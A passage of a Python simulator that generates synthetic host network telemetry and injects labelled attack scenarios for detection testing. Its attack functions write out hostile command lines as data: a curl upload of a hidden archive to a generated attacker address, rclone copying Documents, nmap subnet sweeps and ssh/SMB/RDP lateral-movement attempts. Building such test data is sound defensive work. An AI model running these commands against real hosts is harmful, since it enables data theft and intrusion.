            repo = rng.integers(0, len(repos), n)
            procs = np.empty(n, dtype=np.int64)
            for code in np.unique(repo * 2 + push):
                sel = np.flatnonzero(repo * 2 + push == code)
                verb = "receive" if code % 2 else "upload"
                procs[sel] = self.add_procs(
                    host,
                    "ssh",
                    pid=pid[sel],
                    start=t0[sel] - 1,
                    end=t0[sel] + 900,
                    ppid=pid[sel] - 1,
                    uid=host.uid,
                    user=host.user,
                    cmdline=(
                        f"/usr/bin/ssh -o SendEnv=GIT_PROTOCOL git@{_GIT_SERVER[0]} "
                        f"git-{verb}-pack '{repos[int(code) // 2]}.git'"
                    ),
                )
            conn = self.add_conns(
                proc=procs, remote=self.remotes.add(_GIT_SERVER[1], _GIT_SERVER[0]), rport=22
            )
            sent = np.where(
                push, _lognormal(rng, 30000, 1.5, n, (3000, 50 * MIB)), rng.integers(2500, 8000, n)
            )
            received = np.where(
                push, rng.integers(3000, 10000, n), _lognormal(rng, 50000, 2.0, n, (3000, 200 * MIB))
            )
            duration = 1 + (sent + received) // (4 * MIB)
            self.sessions(
                sink,
                rng,
                conn,
                t0,
                duration=duration,
                sent=sent,
                received=received,
                data_every=3.0,
                close=0.8,
            )

    def server(self, host: _Host, sink: _Sink, rng: np.random.Generator) -> None:
        """The node exporter scraped every 15 s (inbound), and the nightly backup upload."""
        starts, ends = self.lifetimes(rng, *host.segments, mean=8 * 3600, delay=60)
        k = len(starts)
        if k:
            monitor = self.remotes.add(_MONITORING[1], _MONITORING[0])
            conn = self.add_conns(
                proc=self.resident(host, "node_exporter", starts),
                remote=monitor,
                lport=9100,
                rport=EPHEMERAL_LOW + rng.integers(0, EPHEMERAL_COUNT, k),
                direction=INBOUND,
            )
            owner, t = self.ticks(rng, starts, ends, period=15.0, jitter=0.3)
            first = np.r_[True, owner[1:] != owner[:-1]] if len(owner) else np.zeros(0, dtype=bool)
            metrics = _lognormal(rng, 36000, 0.08, len(t), (20000, 90000))
            scrape = rng.integers(180, 260, len(t))
            sink.add(
                conn[owner],
                t,
                np.where(first, ACCEPT, DATA),
                rng,
                sent=metrics,
                received=scrape,
                chunk_sent=16384,
            )
        days = np.arange((self.start + host.tz) // 86400 - 1, (self.end + host.tz) // 86400 + 1)
        t_run = days * 86400 + 2 * 3600 - host.tz + rng.integers(0, 1800, len(days))
        t_run = t_run[(t_run >= self.start) & (t_run < self.end)]
        n = len(t_run)
        if n:
            pid = self.pid_at(host, t_run, rng)
            proc = self.add_procs(
                host,
                "restic",
                pid=pid,
                start=t_run - 1,
                end=t_run + 6 * 3600,
                ppid=pid - 1,
                uid=0,
                user="root",
            )
            endpoint = self.remotes.many(_BACKUP_S3)
            owner = np.repeat(np.arange(n), 3)  # three streams
            size = _lognormal(rng, 400 * MIB, 0.8, n, (20 * MIB, 4000 * MIB))[owner] // 3
            rate = rng.uniform(8, 25, len(owner)) * MIB
            conn = self.add_conns(
                proc=proc[owner], remote=endpoint[rng.integers(0, len(endpoint), len(owner))]
            )
            self.sessions(
                sink,
                rng,
                conn,
                t_run[owner] + rng.integers(1, 20, len(owner)),
                duration=(size / rate).astype(np.int64) + 1,
                sent=size,
                received=4000 + size // 500,
                data_every=5.0,
                close=0.9,
                chunk_sent=65536,
            )

    # -- assembling the rows

    def aggregate(self, port_rng: np.random.Generator) -> dict[str, Any]:
        """Rows, one per connection and window, as flows_aggregate.sql makes them; with the ephemeral
        ports assigned and the peer side of flows between simulated hosts added."""
        conns = self.conns.finish()
        procs = self.procs.finish()
        ev = self.events.finish()
        # events outside their process's life or the simulated range never happened
        proc_of = conns["proc"][ev["conn"]]
        t = ev["t"]
        keep = (
            (t >= self.start) & (t < self.end) & (t >= procs["start"][proc_of]) & (t < procs["end"][proc_of])
        )
        ev = {name: values[keep] for name, values in ev.items()}
        order = np.argsort(ev["conn"] * self.windows + (ev["t"] - self.start) // self.window, kind="stable")
        ev = {name: values[order] for name, values in ev.items()}
        n_conns = len(conns["proc"])
        first_t = np.full(n_conns, NEVER, dtype=np.int64)
        if len(ev["conn"]):
            bounds = np.flatnonzero(np.r_[True, ev["conn"][1:] != ev["conn"][:-1]])
            first_t[ev["conn"][bounds]] = np.minimum.reduceat(ev["t"], bounds)
        # ephemeral ports: each host's connections take the next ports in the order they open
        need = np.flatnonzero((conns["lport"] < 0) & (first_t < NEVER))
        host_of = procs["host"][conns["proc"][need]]
        by = np.lexsort((need, first_t[need], host_of))
        need, host_of = need[by], host_of[by]
        step = port_rng.integers(1, 4, len(need))
        cumulative = np.cumsum(step)
        group = np.flatnonzero(np.r_[True, host_of[1:] != host_of[:-1]]) if len(need) else _i64([])
        base = np.repeat(cumulative[group] - step[group], np.diff(np.r_[group, len(need)]))
        offset = port_rng.integers(0, EPHEMERAL_COUNT, len(self.hosts))
        conns["lport"][need] = EPHEMERAL_LOW + (offset[host_of] + cumulative - base) % EPHEMERAL_COUNT
        conns, ev = self._mirrors(conns, procs, ev, first_t)
        window = (ev["t"] - self.start) // self.window
        key = ev["conn"] * self.windows + window
        starts = np.flatnonzero(np.r_[True, key[1:] != key[:-1]]) if len(key) else _i64([])
        rows: dict[str, Any] = {
            "conns": conns,
            "procs": procs,
            "conn": ev["conn"][starts],
            "window": window[starts],
        }
        empty = len(starts) == 0
        for name in ("bs", "br", "sends", "recvs"):
            rows[name] = _i64([]) if empty else np.add.reduceat(ev[name], starts)
        rows["first"] = _i64([]) if empty else np.minimum.reduceat(ev["t"], starts)
        rows["last"] = _i64([]) if empty else np.maximum.reduceat(ev["t"], starts)
        rows["act"] = _i64([]) if empty else np.maximum.reduceat(ev["act"], starts)
        opened = ((ev["act"] == CONNECT) | (ev["act"] == ACCEPT)).astype(np.int64)
        rows["connections"] = _i64([]) if empty else np.add.reduceat(opened, starts)
        return rows

    def _mirrors(
        self,
        conns: dict[str, IntArray],
        procs: dict[str, IntArray],
        ev: dict[str, IntArray],
        first_t: IntArray,
    ) -> tuple[dict[str, IntArray], dict[str, IntArray]]:
        """The accepting side of connections between simulated hosts: the same flow seen from the
        peer (inbound, ports and byte counts swapped, connect seen as accept)."""
        mirrored = np.flatnonzero((conns["mirror"] >= 0) & (first_t < NEVER))
        n_conns = len(conns["proc"])
        if len(mirrored) == 0:
            return conns, ev
        source_host = procs["host"][conns["proc"][mirrored]]
        host_remote = _i64([host.remote for host in self.hosts])
        mapping = np.full(n_conns, -1, dtype=np.int64)
        mapping[mirrored] = n_conns + np.arange(len(mirrored), dtype=np.int64)
        copies = {
            "proc": conns["mirror"][mirrored],
            "remote": host_remote[source_host],
            "proto": conns["proto"][mirrored],
            "lport": conns["rport"][mirrored],
            "rport": conns["lport"][mirrored],
            "direction": np.full(len(mirrored), INBOUND, dtype=np.int64),
            "scenario": conns["scenario"][mirrored],
            "mirror": np.full(len(mirrored), -1, dtype=np.int64),
        }
        conns = {name: np.concatenate([conns[name], copies[name]]) for name in conns}
        picked = np.flatnonzero((mapping[ev["conn"]] >= 0) & (ev["act"] != FAILED))
        peer = conns["proc"][mapping[ev["conn"][picked]]]
        t = ev["t"][picked]
        picked = picked[(t >= procs["start"][peer]) & (t < procs["end"][peer])]
        act = ev["act"][picked]
        copied = {
            "conn": mapping[ev["conn"][picked]],
            "t": ev["t"][picked],
            "bs": ev["br"][picked],
            "br": ev["bs"][picked],
            "sends": ev["recvs"][picked],
            "recvs": ev["sends"][picked],
            "act": np.where(act == CONNECT, ACCEPT, act),
        }
        # the copies keep the order of their sources, and their ids follow every other connection's
        return conns, {name: np.concatenate([ev[name], copied[name]]) for name in ev}


class _Sink:
    """A host's events, kept to the windows the host is on."""

    def __init__(self, builder: _Builder, host: _Host) -> None:
        self.builder = builder
        self.host = host
        self.blocks: list[tuple[IntArray, ...]] = []

    def add(
        self,
        conn: IntArray,
        t: IntArray,
        act: Any,
        rng: np.random.Generator,
        *,
        sent: Any = 0,
        received: Any = 0,
        chunk_sent: float = 1400.0,
        chunk_received: float = 8000.0,
    ) -> None:
        """Events of connections at times t (activity ranks), moving these bytes; the send and
        receive calls are counted from the bytes and a typical size per call."""
        n = len(conn)
        if n == 0:
            return
        sent = np.broadcast_to(_i64(sent), (n,)).astype(np.int64)
        received = np.broadcast_to(_i64(received), (n,)).astype(np.int64)
        self.blocks.append(
            (
                _i64(conn),
                _i64(t),
                sent,
                received,
                _calls(rng, sent, chunk_sent),
                _calls(rng, received, chunk_received),
                np.broadcast_to(_i64(act), (n,)).astype(np.int64),
            )
        )

    def flush(self, *, after: int | None = None) -> int:
        """Hand the events in the windows the host is on (and from `after` on) to the builder; an
        attack on a host that is never on then keeps its events (it woke the host). Returns how many
        were kept."""
        if not self.blocks:
            return 0
        columns = [np.concatenate(parts) for parts in zip(*self.blocks, strict=True)]
        self.blocks = []
        builder = self.builder
        t = columns[1]
        keep = (t >= builder.start) & (t < builder.end)
        if after is not None:
            keep &= t >= after
        on = keep & self.host.on[builder.window_of(t)]
        keep = on if on.any() or after is None else keep
        builder.events.add(
            **{name: column[keep] for name, column in zip(_EVENT_COLUMNS, columns, strict=True)}
        )
        return int(keep.sum())


# -- attacks -------------------------------------------------------------------------------------------

_Outcome = tuple[str, str, list[str], str]  # process path, sha256, remote addresses, description


@dataclass
class _Plan:
    scenario: str
    code: int  # the scenario label of its rows: index in ("", *attacks)
    host: _Host
    rng: np.random.Generator


class _Attacks:
    def __init__(self, builder: _Builder, attack_start: int, rng: np.random.Generator) -> None:
        self.b = builder
        self.rare_rng = rng
        self.first = -(-attack_start // builder.window) * builder.window
        self.first_window = (self.first - builder.start) // builder.window

    def rare_address(self) -> str:
        """An address of attackers' infrastructure: no simulated host talks to it otherwise."""
        rng = self.rare_rng
        while True:
            prefix = _RARE_PREFIXES[int(rng.integers(len(_RARE_PREFIXES)))]
            address = f"{prefix}.{int(rng.integers(0, 256))}.{int(rng.integers(1, 255))}"
            if address not in self.b.remotes.index:
                return address

    @staticmethod
    def rare_name(rng: np.random.Generator) -> str:
        if rng.random() < 0.5:
            return ""
        word = "".join(rng.choice(_SYLLABLES, 3))
        prefix = rng.choice(("cdn", "api", "static", "update", "sync"))
        return f"{prefix}.{word}.{rng.choice(('net', 'io', 'xyz'))}"

    def on_windows(self, host: _Host) -> IntArray:
        return self.first_window + np.flatnonzero(host.on[self.first_window :]).astype(np.int64)

    def slot(self, host: _Host, rng: np.random.Generator, duration: int) -> tuple[int, int]:
        """(start, seconds the host stays on from there): a time at or after the attack start when
        the host is on, with `duration` s of on-time after it if there is such a stretch."""
        b = self.b
        on = self.on_windows(host)
        if len(on) == 0:  # never on in the range: the attack wakes it
            t0 = self.first + int(rng.integers(0, max(1, b.end - self.first - duration)))
            return t0, b.end - t0
        run = _next_true(~host.on)[on] - on  # on windows from there on, this one included
        need = max(1, -(-duration // b.window))
        fits = on[run >= need]
        pool = fits if len(fits) else on[run == run.max()]
        w = int(pool[int(rng.integers(len(pool)))])
        offset = int(rng.integers(0, b.window))
        length = int(_next_true(~host.on)[w] - w) * b.window - offset
        return int(b.t[w]) + offset, length

    def proc(
        self,
        plan: _Plan,
        key: str,
        t: int,
        *,
        cmdline: str,
        path: str | None = None,
        sha: str | None = None,
        ppid: int | None = None,
        started: int = 2,
    ) -> int:
        host = plan.host
        pid = self.b.pid_at(host, _i64([t - started]), plan.rng)
        parent = int(host.shell[self.b.boot_of(host, _i64([t]))[0]]) if ppid is None else ppid
        uid, user = (33, "www-data") if host.role == "server" else (host.uid, host.user)
        ids = self.b.add_procs(
            host,
            key,
            pid=pid,
            start=t - started,
            end=NEVER,
            ppid=parent,
            uid=uid,
            user=user,
            cmdline=cmdline,
            path=path,
            sha=sha,
        )
        return int(ids[0])

    @staticmethod
    def ports(rng: np.random.Generator, n: int) -> IntArray:
        """n distinct ephemeral ports, in the order a host hands them out."""
        start = int(rng.integers(0, EPHEMERAL_COUNT))
        return EPHEMERAL_LOW + (start + np.cumsum(rng.integers(1, 4, n))) % EPHEMERAL_COUNT

    def home(self, host: _Host) -> str:
        return "/var/www" if host.role == "server" else host.home

    def run(self, plan: _Plan) -> Injection:
        sink = _Sink(self.b, plan.host)
        path, sha, remotes, description = getattr(self, plan.scenario)(plan, sink)
        sink.flush(after=self.first)
        return Injection(
            scenario=plan.scenario,
            host_identifier=plan.host.identifier,
            start=self.first,  # the row windows are filled in once the rows exist
            end=self.first,
            process_path=path,
            process_sha256=sha,
            remote_addresses=tuple(remotes),
            description=description,
        )

    def exfiltration(self, plan: _Plan, sink: _Sink) -> _Outcome:
        b, host, rng = self.b, plan.host, plan.rng
        total = int(rng.uniform(300, 1500) * MIB)
        t0, on_for = self.slot(host, rng, int(rng.uniform(30, 120) * 60))
        duration = int(rng.uniform(30, 120) * 60)
        duration = max(60, min(duration, on_for - 1, b.end - t0 - 1))
        total = min(total, duration * 12 * MIB)  # at most ~100 Mbit/s
        address = self.rare_address()
        remote = b.remotes.add(address, self.rare_name(rng))
        options = ["curl", "rclone"] + (["browser"] if host.browsers else [])
        tool = options[int(rng.integers(len(options)))]
        if tool == "browser":
            key = host.browsers[0]
            resident = host.resident[key]
            at = b.boot_of(host, _i64([t0]))
            t0 = max(t0, int(resident.starts[at][0]) + 1)
            proc = int(resident.ids[at][0])
            streams = 2
            _, path, sha, _ = b.binary(host, key)
        else:
            folder = rng.choice(("cache", "session", "tmp"))
            archive = f"/tmp/.{folder}-{int(rng.integers(1000, 9999))}.tar.gz"  # noqa: S108 - the attacker's
            if tool == "curl":
                cmd, streams = f"curl -s -k -T {archive} https://{address}/upload", 1
            else:
                cmd, streams = f"rclone copy {self.home(host)}/Documents drop:incoming --transfers 4 -q", 4
            proc = self.proc(plan, tool, t0, cmdline=cmd)
            _, path, sha, _ = b.binary(host, tool)
        conn = b.add_conns(proc=proc, remote=remote, lport=self.ports(rng, streams), scenario=plan.code)
        sent = np.full(streams, total // streams, dtype=np.int64)
        b.sessions(
            sink,
            rng,
            conn,
            t0 + np.arange(streams, dtype=np.int64),
            duration=np.full(streams, duration - streams),
            sent=sent,
            received=3000 + sent // 250,
            data_every=6.0,
            close=1.0,
            chunk_sent=65536,
        )
        description = (
            f"{tool} on {host.short} uploads {total / MIB:.0f} MB to {address}:443 "
            f"over {duration / 60:.0f} min"
        )
        return path, sha, [address], description

    def beaconing(self, plan: _Plan, sink: _Sink) -> _Outcome:
        b, host, rng = self.b, plan.host, plan.rng
        hours = rng.uniform(4, 12)
        t0, _ = self.slot(host, rng, int(hours * 3600))
        directory, name = _BEACON_NAMES[int(rng.integers(len(_BEACON_NAMES)))]
        path = f"{self.home(host)}/.cache/{directory}/{name}"
        sha = hashlib.sha256(rng.bytes(32)).hexdigest()
        proc = self.proc(
            plan, "", t0, cmdline=path, path=path, sha=sha, ppid=1, started=int(rng.integers(5, 600))
        )
        address = self.rare_address()
        remote = b.remotes.add(address, self.rare_name(rng))
        interval = rng.uniform(60, 300)
        jitter = rng.uniform(0.1, 0.2)
        count = int(hours * 3600 / interval) + 1
        gaps = interval * (1 + rng.uniform(-jitter, jitter, count))
        times = (t0 + np.r_[0.0, np.cumsum(gaps[:-1])]).astype(np.int64)
        times = times[times < b.end - 2]
        n = len(times)
        port = int(rng.choice((443, 443, 8443)))
        conn = b.add_conns(proc=proc, remote=remote, rport=port, lport=self.ports(rng, n), scenario=plan.code)
        sent = np.round(rng.normal(1150, 35, n)).astype(np.int64)
        received = np.round(rng.normal(4600, 110, n)).astype(np.int64)
        tasking = rng.random(n) < 0.05
        received[tasking] += rng.integers(2000, 30000, int(tasking.sum()))
        b.sessions(
            sink,
            rng,
            conn,
            times,
            duration=rng.integers(0, 2, n),
            sent=sent,
            received=received,
            data_every=10.0,
            close=0.0,
        )
        description = (
            f"implant {path} on {host.short} beacons to {address}:{port} every {interval:.0f} s "
            f"(jitter {jitter:.0%})"
        )
        return path, sha, [address], description

    def port_scan(self, plan: _Plan, sink: _Sink) -> _Outcome:
        b, host, rng = self.b, plan.host, plan.rng
        chosen = rng.choice(len(_SSH_SERVERS), int(rng.integers(1, 4)), replace=False)
        targets = [_SSH_SERVERS[int(i)] for i in chosen]
        n_ports = int(rng.integers(300, 2500))
        extra = [
            int(p) for p in rng.choice(np.arange(1, 65536), n_ports, replace=False) if p not in _TOP_PORTS
        ]
        ports = [*_TOP_PORTS, *extra][:n_ports]
        rate = rng.uniform(3, 30)
        t0, _ = self.slot(host, rng, int(n_ports * len(targets) / rate))
        addresses = [address for _, address in targets]
        tool = "nmap" if rng.random() < 0.6 else "python3"
        if tool == "nmap":
            cmd = f"nmap -sT -Pn -T3 --top-ports {n_ports} {' '.join(addresses)}"
        else:
            cmd = f"python3 /tmp/.{int(rng.integers(100, 999))}/scan.py {' '.join(addresses)}"
        proc = self.proc(plan, tool, t0, cmdline=cmd)
        ids = _i64([b.remotes.add(address, name) for name, address in targets])
        total = len(ids) * len(ports)
        order = rng.permutation(total)
        remote = np.repeat(ids, len(ports))[order]
        port = np.tile(_i64(ports), len(ids))[order]
        times = (t0 + np.arange(total) / rate + rng.uniform(0, 0.5, total)).astype(np.int64)
        listening = np.isin(port, (22, 80, 443, 5432, 9100))
        conn = b.add_conns(
            proc=proc, remote=remote, rport=port, lport=self.ports(rng, total), scenario=plan.code
        )
        sink.add(conn, times, np.where(listening, CONNECT, FAILED), rng)
        sink.add(conn[listening], times[listening], CLOSE, rng)
        _, path, sha, _ = b.binary(host, tool)
        description = (
            f"{tool} on {host.short} scans {n_ports} ports of {', '.join(addresses)} at {rate:.0f}/s"
        )
        return path, sha, addresses, description

    def _sshd(self, peer: _Host, t: int, rng: np.random.Generator, who: str, seconds: int) -> int:
        """The per-connection sshd process of a peer that accepted an ssh connection."""
        b = self.b
        listener = 1
        if "sshd" in peer.resident:
            listener = int(peer.resident["sshd"].pids[b.boot_of(peer, _i64([t]))][0])
        ids = b.add_procs(
            peer,
            "sshd",
            pid=b.pid_at(peer, _i64([t]), rng),
            start=t,
            end=t + seconds + 2,
            ppid=listener,
            uid=0,
            user="root",
            cmdline=f"sshd: {who}",
        )
        return int(ids[0])

    def host_sweep(self, plan: _Plan, sink: _Sink) -> _Outcome:
        b, host, rng = self.b, plan.host, plan.rng
        ports = ((445,), (22,), (445, 22))[int(rng.integers(3))]
        n_addresses = int(rng.integers(200, 800))
        block = int(host.v4.split(".")[2])
        addresses = [f"10.20.{block + i // 254}.{1 + i % 254}" for i in range(n_addresses)]
        addresses = [address for address in addresses if address != host.v4]
        rate = rng.uniform(5, 40)
        total = len(addresses) * len(ports)
        t0, _ = self.slot(host, rng, int(total / rate))
        tool = "nmap" if rng.random() < 0.5 else "python3"
        subnet = f"10.20.{block}.0/{24 if n_addresses <= 254 else 22}"
        if tool == "nmap":
            cmd = f"nmap -sT -Pn -n -p{','.join(map(str, ports))} --open {subnet}"
        else:
            cmd = f"python3 /tmp/.{int(rng.integers(100, 999))}/sweep.py {subnet} {','.join(map(str, ports))}"
        proc = self.proc(plan, tool, t0, cmdline=cmd)
        probes = [(address, port) for address in addresses for port in ports]
        names = [peer.identifier if (peer := b.host_by_v4.get(a)) is not None else "" for a, _ in probes]
        remote = _i64(
            [b.remotes.add(address, name) for (address, _), name in zip(probes, names, strict=True)]
        )
        port = _i64([p for _, p in probes])
        times = np.minimum((t0 + np.arange(total) / rate).astype(np.int64), b.end - 1)
        accepted = np.zeros(total, dtype=bool)
        mirror = np.full(total, -1, dtype=np.int64)
        for i, (address, p) in enumerate(probes):  # sshd on our own hosts that are on answers
            peer = b.host_by_v4.get(address)
            if peer is not None and p == 22 and peer.sshd and peer.on[b.window_of(times[i : i + 1])[0]]:
                accepted[i] = True
                mirror[i] = self._sshd(peer, int(times[i]), rng, "[accepted]", 3)
        conn = b.add_conns(
            proc=proc,
            remote=remote,
            rport=port,
            lport=self.ports(rng, total),
            scenario=plan.code,
            mirror=mirror,
        )
        banner = np.where(accepted, rng.integers(21, 42, total), 0)
        sink.add(conn, times, np.where(accepted, CONNECT, FAILED), rng, received=banner)
        sink.add(conn[accepted], times[accepted] + 1, CLOSE, rng)
        _, path, sha, _ = b.binary(host, tool)
        description = (
            f"{tool} on {host.short} probes port(s) {'/'.join(map(str, ports))} of {len(addresses)} "
            f"addresses from {subnet} ({int(accepted.sum())} answered)"
        )
        return path, sha, addresses, description

    def lateral_movement(self, plan: _Plan, sink: _Sink) -> _Outcome:
        b, host, rng = self.b, plan.host, plan.rng
        t0, _ = self.slot(host, rng, 3600)
        w0 = int(b.window_of(_i64([t0]))[0])
        others = [peer for peer in b.hosts if peer is not host]
        live = sorted(
            (peer for peer in others if peer.on[w0]), key=lambda peer: (not peer.sshd, rng.random())
        )
        count = min(int(rng.integers(2, 6)), len(others))
        peers = live[:count]
        rest = [peer for peer in others if peer not in peers]
        peers += [rest[i] for i in rng.permutation(len(rest))[: count - len(peers)]]
        # (address, remote id, login, the simulated peer or None, whether its sshd lets the attacker in)
        targets: list[tuple[str, int, str, _Host | None, bool]] = [
            (
                peer.v4,
                peer.remote,
                peer.user if peer.role != "server" else "deploy",
                peer,
                peer.sshd and bool(peer.on[w0]),
            )
            for peer in peers
        ]
        if not targets:  # a fleet of one: the internal servers
            for i in rng.choice(len(_SSH_SERVERS), 2, replace=False):
                name, address = _SSH_SERVERS[int(i)]
                targets.append((address, b.remotes.add(address, name), "deploy", None, False))
        if not any(target[4] for target in targets):
            targets[0] = (*targets[0][:4], True)  # the stolen key works somewhere
        at = t0
        sessions = 0
        for address, remote, user, peer, accepts in targets:
            # SMB and RDP first: nothing listens there on these Linux machines
            for key, port, cmd in (
                ("smbclient", 445, f"smbclient -L //{address} -U administrator"),
                ("xfreerdp", 3389, f"xfreerdp /v:{address} /u:administrator /cert:ignore"),
            ):
                if rng.random() < 0.75:
                    proc = self.proc(plan, key, at, cmdline=cmd, started=1)
                    tries = int(rng.integers(1, 4))
                    conn = b.add_conns(
                        proc=proc, remote=remote, rport=port, lport=self.ports(rng, tries), scenario=plan.code
                    )
                    sink.add(conn, at + 3 * np.arange(tries, dtype=np.int64), FAILED, rng)
                    at += int(rng.integers(20, 120))
            cmd = f"ssh -o StrictHostKeyChecking=no {user}@{address}"
            proc = self.proc(plan, "ssh", at, cmdline=cmd, started=1)
            if not accepts:
                conn = b.add_conns(
                    proc=proc, remote=remote, rport=22, lport=self.ports(rng, 1), scenario=plan.code
                )
                sink.add(conn, _i64([at]), FAILED, rng)
                at += int(rng.integers(20, 120))
                continue
            duration = int(rng.uniform(5, 40) * 60)
            mirror = -1 if peer is None else self._sshd(peer, at, rng, f"{user} [priv]", duration)
            conn = b.add_conns(
                proc=proc,
                remote=remote,
                rport=22,
                lport=self.ports(rng, 1),
                scenario=plan.code,
                mirror=mirror,
            )
            sent = _lognormal(rng, 250000, 1.0, 1, (30000, 20 * MIB))
            received = _lognormal(rng, 600000, 1.0, 1, (50000, 40 * MIB))
            b.sessions(
                sink,
                rng,
                conn,
                _i64([at]),
                duration=_i64([duration]),
                sent=sent,
                received=received,
                data_every=15.0,
                close=1.0,
            )
            sessions += 1
            at += duration + int(rng.integers(30, 300))
        touched = [target[0] for target in targets]
        _, path, sha, _ = b.binary(host, "ssh")
        description = (
            f"{host.short} tries SMB, RDP and ssh on {len(targets)} machines ({', '.join(touched)}); "
            f"{sessions} ssh session(s) get in"
        )
        return path, sha, touched, description

    def dns_tunnel(self, plan: _Plan, sink: _Sink) -> _Outcome:
        b, host, rng = self.b, plan.host, plan.rng
        hours = rng.uniform(1.5, 4)
        t0, _ = self.slot(host, rng, int(hours * 3600))
        address, name = _PUBLIC_RESOLVERS[int(rng.integers(len(_PUBLIC_RESOLVERS)))]
        remote = b.remotes.add(address, name)
        folder = rng.choice(("sync", "gvfs", "tracker"))
        script = f"{self.home(host)}/.local/share/.{folder}/resolv_{int(rng.integers(10, 99))}.py"
        proc = self.proc(plan, "python3", t0, cmdline=f"python3 {script}")
        per_minute = rng.uniform(20, 120)
        times = np.sort(t0 + rng.uniform(0, hours * 3600, int(hours * 60 * per_minute))).astype(np.int64)
        times = times[times < b.end]
        n = len(times)
        socket_index = ((times - t0) // rng.uniform(300, 900)).astype(np.int64)  # a new socket now and then
        sockets = int(socket_index.max()) + 1 if n else 0
        conn = b.add_conns(
            proc=proc, remote=remote, proto=UDP, rport=53, lport=self.ports(rng, sockets), scenario=plan.code
        )
        first = np.r_[True, socket_index[1:] != socket_index[:-1]] if n else np.zeros(0, dtype=bool)
        query = rng.integers(140, 255, n)
        answer = np.where(rng.random(n) < 0.97, rng.integers(160, 520, n), 0)
        sink.add(
            conn[socket_index],
            times,
            np.where(first, CONNECT, DATA),
            rng,
            sent=query,
            received=answer,
            chunk_sent=1e9,
            chunk_received=1e9,
        )
        _, path, sha, _ = b.binary(host, "python3")
        description = (
            f"python3 {script} on {host.short} tunnels through DNS to {address}: "
            f"{per_minute:.0f} queries/min for {hours:.1f} h"
        )
        return path, sha, [address], description

    def rare_binary(self, plan: _Plan, sink: _Sink) -> _Outcome:
        b, host, rng = self.b, plan.host, plan.rng
        minutes = rng.uniform(20, 90)
        t0, _ = self.slot(host, rng, int(minutes * 60))
        path = _RARE_BINARIES[int(rng.integers(len(_RARE_BINARIES)))].format(home=self.home(host))
        sha = hashlib.sha256(rng.bytes(32)).hexdigest()
        proc = self.proc(plan, "", t0, cmdline=path, path=path, sha=sha, started=int(rng.integers(2, 60)))
        address = self.rare_address()
        remote = b.remotes.add(address, self.rare_name(rng))
        count = int(rng.integers(3, 15))
        times = np.sort(t0 + np.r_[0.0, rng.uniform(0, minutes * 60, count - 1)]).astype(np.int64)
        times = times[times < b.end - 1]
        n = len(times)
        conn = b.add_conns(proc=proc, remote=remote, lport=self.ports(rng, n), scenario=plan.code)
        received = _lognormal(rng, 40000, 1.5, n, (2000, 5 * MIB))
        b.sessions(
            sink,
            rng,
            conn,
            times,
            duration=rng.integers(1, 30, n),
            sent=rng.integers(1000, 20000, n),
            received=received,
        )
        return (
            path,
            sha,
            [address],
            f"new binary {path} on {host.short} talks to {address}:443 ({n} connections)",
        )


def _attack_hosts(builder: _Builder, attacks: _Attacks, rng: np.random.Generator, count: int) -> list[_Host]:
    """`count` distinct hosts, preferring workstations that are on in the attack range."""
    weights = np.asarray(
        [len(attacks.on_windows(host)) * (0.3 if host.role == "server" else 1.0) for host in builder.hosts],
        dtype=np.float64,
    )
    picked: list[int] = []
    while len(picked) < count and weights.sum() > 0:
        choice = int(rng.choice(len(weights), p=weights / weights.sum()))
        picked.append(choice)
        weights[choice] = 0.0
    picked += [i for i in rng.permutation(len(builder.hosts)).tolist() if i not in picked][
        : count - len(picked)
    ]
    return [builder.hosts[i] for i in picked]


# -- putting it together ----------------------------------------------------------------------------


def _whole(name: str, value: object, low: int, high: int | None = None) -> int:
    if isinstance(value, bool) or not isinstance(value, (int, np.integer)):
        raise ValueError(f"{name} must be a whole number, not {value!r}")
    number = int(value)
    if number < low or (high is not None and number > high):
        accepted = f"from {low} to {high}" if high is not None else f"at least {low}"
        raise ValueError(f"{name} must be {accepted}, not {number}")
    return number


def _check_attacks(attacks: Sequence[str]) -> tuple[str, ...]:
    if isinstance(attacks, (str, bytes)) or not isinstance(attacks, Sequence):
        raise ValueError(
            f"attacks must be a sequence of scenario names, e.g. {list(SCENARIOS[:2])}, not {attacks!r}"
        )
    unknown = [name for name in attacks if name not in SCENARIOS]
    if unknown:
        names = ", ".join(map(repr, unknown))
        raise ValueError(f"unknown scenario(s) {names}: the scenarios are {', '.join(SCENARIOS)}")
    return tuple(attacks)


def simulate(
    *,
    hosts: int = 50,
    days: float = 7.0,
    end: int | None = None,
    seed: int = 1,
    window_seconds: int = 60,
    attacks: Sequence[str] = SCENARIOS,
    attack_start: int | None = None,
    attack_hosts: int | None = None,
) -> Simulation:
    """Simulate ``hosts`` hosts over ``[end - days * 86400, end)`` in windows of ``window_seconds``,
    and inject ``attacks``.

    ``end`` defaults to now; it is aligned down to the window, and the start up. ``attacks`` are
    scenario names of :data:`SCENARIOS` (repeats allowed, each its own injection; ``()`` for a clean
    fleet), injected in windows at or after ``attack_start`` (default: the start of the last day of
    the range) on ``attack_hosts`` distinct hosts the seed picks (default: one per attack, as far as
    there are hosts that are on in that range; the attacks take the picked hosts in turn), preferring
    workstations that are on then. An attack runs while its host is on (a host that is never on in
    the range is woken by it).

    Pure and deterministic for its arguments; the normal rows do not depend on the attacks. Raises
    ValueError naming the argument and what it accepts: hosts 1-9999, days above 0 and at most 31
    (at least one window), window_seconds 10-3600, seed >= 0, end >= 0, known scenario names,
    attack_start within ``[start, end)`` leaving at least one window, attack_hosts 1..hosts.
    """
    hosts = _whole("hosts", hosts, 1, MAX_HOSTS)
    window = _whole("window_seconds", window_seconds, *WINDOW_RANGE)
    seed = _whole("seed", seed, 0)
    if isinstance(days, bool) or not isinstance(days, (int, float)) or not 0 < days <= MAX_DAYS:
        raise ValueError(f"days must be a number of days above 0 and at most {MAX_DAYS:g}, not {days!r}")
    end = _whole("end", int(time.time()) if end is None else end, 0)
    end -= end % window
    start = -(-(end - round(days * 86400)) // window) * window  # aligned up: within the range asked
    if end - start < window or start < 0:
        raise ValueError(f"days={days!r} covers no whole window of {window} s: simulate at least {window} s")
    scenarios = _check_attacks(attacks)
    attack_start = _whole(
        "attack_start", max(start, end - 86400) if attack_start is None else attack_start, 0
    )
    if not start <= attack_start < end or -(-attack_start // window) * window >= end:
        raise ValueError(
            f"attack_start {attack_start} is outside the simulated range [{start}, {end}) or leaves no "
            f"whole window of {window} s: give an epoch second in that range"
        )
    if attack_hosts is not None:
        attack_hosts = _whole("attack_hosts", attack_hosts, 1, hosts)

    builder = _Builder(hosts=hosts, start=start, end=end, window=window, seed=seed)
    rngs = [np.random.default_rng([seed, 2, host.index]) for host in builder.hosts]
    for host, rng in zip(builder.hosts, rngs, strict=True):
